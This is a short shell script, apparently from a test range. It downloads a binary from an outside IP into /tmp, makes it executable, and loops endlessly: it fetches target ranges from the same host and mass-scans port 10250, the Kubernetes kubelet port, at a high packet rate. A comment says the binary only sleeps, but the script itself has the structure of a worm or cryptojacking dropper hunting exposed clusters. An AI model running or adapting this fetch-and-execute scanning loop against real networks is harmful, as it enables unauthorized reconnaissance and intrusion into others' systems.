#!/bin/sh
# Served inside the test range only: "masscan" is the program that sleeps; nothing is scanned.
wget -q http://203.0.113.35/inert -O /tmp/masscan
chmod +x /tmp/masscan
while true; do
  range=$(wget -q -O - http://203.0.113.35/scan_threads.dat)
  /tmp/masscan "$range" -p10250 --rate=20000 </dev/null &
  sleep 20
  kill $!
done
